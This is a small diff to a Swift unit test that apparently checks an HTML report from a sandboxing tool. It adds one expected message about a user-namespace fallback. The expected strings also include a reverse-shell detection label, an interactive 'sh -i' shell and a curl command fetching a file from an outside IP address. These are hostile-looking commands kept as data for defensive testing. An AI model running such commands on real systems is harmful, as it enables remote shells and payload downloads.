@@ -32,6 +32,7 @@ struct ReportTests {
             "<span class=\"chip\">landlock</span>",
             "exit code none, signal 9, cordon exited 124", "reverse-shell", "interactive shell from a pipe",
             "<code>sh -i</code>", "pid 101", "curl http://203.0.113.7/x",
+            "fell back</span> user namespaces refused by the kernel",
         ] {
             #expect(h.contains(needle), "missing \(needle)")
         }
